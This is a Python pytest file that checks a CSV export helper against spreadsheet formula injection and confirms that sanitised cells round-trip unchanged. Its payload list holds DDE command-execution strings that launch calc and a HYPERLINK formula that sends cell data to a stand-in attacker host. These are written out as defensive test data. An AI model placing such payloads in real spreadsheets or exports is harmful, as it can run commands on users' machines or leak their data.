"""CSV cells that begin no formula, and come back as they were (reliability §6)."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from config.kit.sheets import csv_lines, plain_text, safe_text

ACTIVE = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = ("", " ", "  ", '"', "'", "\ufeff", "\u200b", "\u00a0", '" ', "\u202e", " '\"")
SEPARATED = ("x,{}", "x;{}", "x\n{}", "x\r{}", "x\t{}", "x|{}", 'x;"{}', "x, {}")
PAYLOADS = [
    *(f"{before}{sign}cmd|' /C calc'!A0" for before in BEFORE for sign in ACTIVE[:4]),
    *(f"{sign}1" for sign in ACTIVE),
    *(pattern.format(f"{sign}1+1") for pattern in SEPARATED for sign in ("=", "-")),
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\u0000",
    "''=1",
]


def begins_formula(text: str) -> bool:
    """Whether a spreadsheet that looks past spaces, quotes and the unseen would compute it, cut at any separator."""
    parts = text
    for separator in ",;|\n":
        parts = parts.replace(separator, "\0")
    skipped = ' "\u00a0\ufeff\u200b\u202e\u00ad'
    return any(part.lstrip(skipped)[:1] in ACTIVE for part in parts.split("\0") if part.lstrip(skipped))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_a_formula(payload: str) -> None:
    assert not begins_formula(safe_text(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_text_comes_back(payload: str) -> None:
    assert plain_text(safe_text(payload)) == payload


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n,;|\"' a1\ufeff\u200b\uff1d")))
def test_any_text_comes_back(text: str) -> None:
    assert plain_text(safe_text(text)) == text


def test_there_are_as_many_payloads_as_agreed() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize(
    "text", ["Pat Peters", "Jan-Willem", "a = b", "1015 CN", "pat@contoso.example", "x - y"]
)
def test_plain_texts_stay_as_they_are(text: str) -> None:
    assert safe_text(text) == text


def test_a_file_is_read_back_by_any_reader() -> None:
    at = datetime(2026, 11, 30, 9, 30, 5, 7, tzinfo=UTC)
    rows = [["=1", 'say "hi"\nthere', Decimal("-5.51"), 3, None, date(2026, 11, 30), at]]

    text = "".join(csv_lines(["a", "b", "c", "d", "e", "f", "g"], rows))

    assert text.startswith('\ufeff"a","b"')
    assert list(csv.reader(text.lstrip("\ufeff").splitlines(keepends=True))) == [
        ["a", "b", "c", "d", "e", "f", "g"],
        ["'=1", 'say "hi"\nthere', "-5.51", "3", "", "2026-11-30", "2026-11-30T09:30:05+00:00"],
    ]
